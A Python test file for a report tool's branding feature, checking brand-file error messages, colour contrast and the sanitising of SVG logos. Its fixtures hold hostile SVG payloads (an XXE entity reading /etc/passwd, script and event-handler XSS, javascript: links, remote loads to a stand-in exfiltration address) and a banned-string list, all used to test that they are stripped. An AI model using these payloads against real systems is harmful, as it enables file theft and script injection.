"""Branding: the brand file's errors name file and line; an SVG logo is sanitised (the browser test is in
tests/report/test_branded_report.py)."""

from __future__ import annotations

import base64
import struct
import zlib
from pathlib import Path

import pytest

from m365exit import brand, pipeline
from m365exit import snapshot as snap
from m365exit.errors import RulesError
from m365exit.snapshot import Snapshot
from tests.conftest import run_cli

EXFIL = "198.51.100.7"  # TEST-NET-2: nothing answers there, and any request to it is a leak
HOSTILE_SVG = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg [<!ENTITY leak SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 240 64"
     width="240" height="64" onload="alert('onload')">
  <defs><radialGradient id="shine"><stop offset="0" stop-color="#ffffff"/><stop offset="1" stop-color="#ce93d8"/>
  </radialGradient></defs>
  <script>alert('script')</script>
  <script xlink:href="http://{EXFIL}/x.js"/>
  <style>@import url(http://{EXFIL}/a.css); rect {{ fill: url(http://{EXFIL}/f) }}</style>
  <rect width="64" height="64" rx="12" fill="#6a1b9a" onclick="alert('click')"
        style="stroke: url(http://{EXFIL}/s); fill: #6a1b9a"/>
  <circle cx="32" cy="32" r="18" fill="url(#shine)"/>
  <a href="javascript:alert('js')"><text x="76" y="42" font-size="24" fill="#6a1b9a">Conseil&#160;Ouest &leak;</text>
  </a>
  <a xlink:href="javascript:alert('xlink')"><text x="200" y="60">x</text></a>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://{EXFIL}/f"/></foreignObject>
  <image href="http://{EXFIL}/track.png" width="1" height="1"/>
  <use href="http://{EXFIL}/sprite.svg#a"/>
  <use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>
  <animate attributeName="href" to="javascript:alert('animate')"/>
  <set attributeName="onmouseover" to="alert('set')"/>
</svg>
"""


def png(width: int = 2, height: int = 2) -> bytes:
    """A real PNG, written from its definition: signature, IHDR, IDAT, IEND."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\x00" + b"\x00\x00\x91" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def brand_file(folder: Path, body: str, logo: bytes | str | None = None, logo_name: str = "logo.svg") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    if logo is not None:
        (folder / logo_name).write_bytes(logo.encode() if isinstance(logo, str) else logo)
    path = folder / "brand.yaml"
    path.write_text(body, encoding="utf-8")
    return path


GOOD = """organisation: Conseil Ouest
author: Marie Martin
client: Agence de l'eau <b>Loire</b>
confidentiality: Diffusion restreinte
logo: {logo}
colours:
  primary: "#6a1b9a"
  accent: "#00838f"
"""


def test_a_brand_file_loads(tmp_path: Path) -> None:
    path = brand_file(tmp_path / "b", GOOD.format(logo="logo.png"), png(), "logo.png")
    loaded = brand.load(path)
    assert loaded["organisation"] == "Conseil Ouest" and loaded["client"] == "Agence de l'eau <b>Loire</b>"
    assert loaded["colours"] == {"primary": "#6a1b9a", "accent": "#00838f"}
    assert loaded["logo"] == "data:image/png;base64," + base64.b64encode(png()).decode()
    jpeg = brand_file(tmp_path / "j", "logo: l.jpg\n", b"\xff\xd8\xff\xe0" + b"\x00" * 64, "l.jpg")
    assert brand.load(jpeg)["logo"].startswith("data:image/jpeg;base64,")


@pytest.mark.parametrize(("body", "logo", "line", "words"), [
    ("organisation: X\nauthor: Y\nfooter: Z\n", None, 3, ["unknown key 'footer'", "Allowed keys"]),
    ("organisation: X\ncolour:\n  primary: '#000091'\n", None, 2, ["unknown key 'colour'", "Did you mean 'colours'?"]),
    ("colours:\n  primary: #000091\n", None, 2, ["colours.primary has no value", "an unquoted # starts a comment"]),
    ("organisation: X\nlogo: missing.png\n", None, 2, ["cannot read the logo", "missing.png"]),
    ("colours:\n  primary: '#12345'\n", None, 2, ["is not a colour", "#rrggbb"]),
    ("colours:\n  primary: navy\n", None, 2, ["'navy' is not a colour"]),
    ("colours:\n  accent: '#000091'\n  secondary: '#000000'\n", None, 3, ["unknown colour 'secondary'"]),
    ("colours:\n  primary: '#ffcc00'\n", None, 2, ["contrast of 1.5:1", "text needs at least 4.5:1",
                                                  "darker shade, such as #"]),
    ("colours:\n  accent: '#dddddd'\n", None, 2, ["at least 3.0:1"]),
    ("organisation: [a, b]\n", None, 1, ["'organisation' must be non-empty text"]),
    ("logo: logo.svg\n", "<div>not an image</div>", 1, ["not a PNG, JPEG or SVG image"]),
    ("logo: logo.svg\n", "<svg><script>alert(1)</script></svg >", 1, ["no drawable SVG"]),
    ("organisation: X\norganisation: Y\n", None, 2, ["written twice"]),
])
def test_brand_errors_name_file_and_line(tmp_path: Path, demo_snapshot: Snapshot, body: str, logo: str | None,
                                         line: int, words: list[str]) -> None:
    path = brand_file(tmp_path / "b", body, logo)
    snapshot = tmp_path / "s.json.gz"
    snap.save(demo_snapshot, snapshot)
    result = run_cli("assess", str(snapshot), "--out", str(tmp_path / "r"), "--brand", str(path))
    assert result.returncode == 5, result.stderr
    assert f"brand.yaml:{line}:" in result.stderr
    for word in words:
        assert word in result.stderr
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "r").exists()  # refused before anything is written


def test_the_suggested_shade_passes() -> None:
    with pytest.raises(RulesError) as caught:
        brand._colours(type("S", (), {"where": lambda self, loc: "b.yaml:2"})(), {"primary": "#ffcc00"})  # type: ignore[arg-type]
    suggestion = caught.value.hint.split("such as ")[1].rstrip(".")
    assert brand.contrast(suggestion, "#ffffff") >= 4.5
    assert round(brand.contrast("#000000", "#ffffff"), 2) == 21.0
    assert round(brand.contrast("#767676", "#ffffff"), 2) == 4.54  # the lightest grey that passes AA on white


def test_a_hostile_svg_logo_is_sanitised(tmp_path: Path) -> None:
    uri = brand.load(brand_file(tmp_path, "logo: logo.svg\n", HOSTILE_SVG))["logo"]
    assert uri.startswith("data:image/svg+xml;base64,")
    svg = base64.b64decode(uri.split(",", 1)[1]).decode()
    lowered = svg.lower()
    for banned in ("<script", "onload", "onclick", "onmouseover", "foreignobject", "javascript:", "<iframe",
                   "<image", "<animate", "<set", "<style", "@import", EXFIL, "data:", "doctype", "entity",
                   "/etc/passwd"):
        assert banned not in lowered, banned
    assert '<rect width="64" height="64" rx="12" fill="#6a1b9a"' in svg  # the drawing stays
    assert 'fill="url(#shine)"' in svg and '<radialGradient id="shine">' in svg and "Conseil" in svg


def test_branding_is_deterministic_and_escaped(demo_snapshot: Snapshot, tmp_path: Path) -> None:
    path = brand_file(tmp_path / "brand", GOOD.format(logo="logo.svg"), HOSTILE_SVG)
    outputs = []
    for n in range(2):
        _, written = pipeline.assess(demo_snapshot, tmp_path / f"r{n}",
                                     pipeline.AssessOptions(formats=["html"], lang="fr", brand=path))
        outputs.append(written[0].read_bytes())
    assert outputs[0] == outputs[1]
    html = outputs[0].decode()
    assert "Agence de l&#39;eau &lt;b&gt;Loire&lt;/b&gt;" in html
    assert "Préparé par Marie Martin" in html
    assert "--accent: #6a1b9a" in html and "--highlight: #00838f" in html


def test_a_logo_styled_by_classes_keeps_its_colours() -> None:
    """Design tools write <style> with class rules; the colours survive, the hostile declarations do not."""
    svg = brand.sanitize_svg(f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><style><![CDATA[
      .st0 {{ fill: #6A1B9A; }} /* brand */ .st1, .st2 {{ fill: url(http://{EXFIL}/x); stroke: #00838f }}
      svg rect {{ fill: red }} .st3 {{ behavior: url(x.htc); fill: #123456 }}
    ]]></style></defs><rect class="st0" width="5" height="5"/>
    <rect class="st1 st3" x="5" width="5" height="5" style="opacity: .5; fill: url(javascript:alert(1))"/></svg>""")
    assert svg is not None
    assert 'class="st0" width="5" height="5" style="fill:#6A1B9A"' in svg
    assert 'style="stroke:#00838f;fill:#123456;opacity:0.5"' in svg  # own style last: it wins, as in CSS
    assert EXFIL not in svg and "javascript" not in svg and "behavior" not in svg and "red" not in svg
